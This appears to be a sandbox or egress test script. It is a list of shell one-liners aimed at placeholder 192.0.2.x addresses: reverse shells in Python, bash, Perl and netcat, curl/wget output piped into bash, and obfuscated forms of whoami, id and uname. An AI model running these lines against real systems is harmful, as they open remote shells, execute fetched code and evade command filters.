python3 -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.settimeout(1);s.connect(('192.0.2.90',4444));os.dup2(s.fileno(),0)" 2>&1 | tail -1
python3 -c 'import urllib.request as u;u.urlopen("http://192.0.2.91/p.py",timeout=1)' 2>&1 | tail -1
timeout 1 bash -c "bash -i >& /dev/tcp/192.0.2.92/4444 0>&1"; echo $?
timeout 1 perl -e 'use Socket;$i="192.0.2.93";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));'; echo $?
rm -f /tmp/f; mkfifo /tmp/f; ls -l /tmp/f | cut -c1; timeout 1 sh -c 'cat /tmp/f | sh -i 2>&1 | nc -w 5 192.0.2.94 4444 > /tmp/f'; echo $?
timeout 1 wget -q -O- http://192.0.2.95/x | bash; echo ${PIPESTATUS[0]} ${PIPESTATUS[1]}
bash <(timeout 1 curl -s http://192.0.2.96/y); echo $?
nohup sh -c 'echo quiet > /tmp/.n' >/dev/null 2>&1 & wait; cat /tmp/.n
x=$(timeout 1 curl -s http://192.0.2.97/z || echo fallback); echo "$x"
GET=wget; $GET -q -t1 -T1 http://192.0.2.98/; echo $?
w''h$(echo oa)mi; $'\x69\x64' -u; u=una; ${u}me
